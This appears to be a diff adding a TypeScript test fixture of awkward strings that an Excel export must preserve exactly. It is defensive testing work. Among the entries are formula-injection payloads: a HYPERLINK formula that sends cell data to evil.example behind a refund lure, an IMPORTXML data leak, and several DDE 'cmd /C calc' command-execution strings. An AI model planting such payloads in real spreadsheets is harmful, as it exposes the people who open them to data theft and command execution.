@@ -1,0 +1,47 @@
+/**
+ * Text that Excel would turn into something else if it were written naively: formula prefixes (also
+ * after white space, full-width, DDE), numbers and dates in disguise, booleans, and text longer than a
+ * cell. Every entry must come back from the sheet as exactly itself (or, over 32,767 characters, cut with
+ * the visible marker).
+ */
+export const HOSTILE_TEXT: readonly string[] = [
+  "=1+1",
+  '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")',
+  "=cmd|' /C calc'!A0",
+  "=cmd|'/c calc'!A1",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+1",
+  "-1+1",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@A1",
+  "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+  " =1+1",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\uFF1D1+1",
+  "\uFF0B1",
+  "\uFF20SUM(A1)",
+  "=\"a\"&\"b\"",
+  "DDE(\"cmd\";\"/C calc\";\"!A0\")",
+  "00123",
+  "0001",
+  "1E5",
+  "1e-3",
+  "12,345",
+  "-0",
+  "+5",
+  "50%",
+  "2026-11-01",
+  "2026-11-01 14:30",
+  "11/1/2026",
+  "1/2",
+  "TRUE",
+  "false",
+  "#N/A",
+  "#REF!",
+  "'quoted",
+  "経費精算 – 出張",
+  "x".repeat(40_000),
+];
